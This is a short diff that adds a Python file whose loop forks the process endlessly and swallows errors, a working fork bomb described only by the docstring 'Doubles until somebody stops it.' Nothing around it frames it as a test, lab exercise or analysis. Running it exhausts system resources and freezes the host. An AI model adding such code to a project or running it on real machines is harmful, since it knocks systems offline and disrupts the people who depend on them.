@@ -1,0 +1,8 @@
+"""Doubles until somebody stops it."""
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
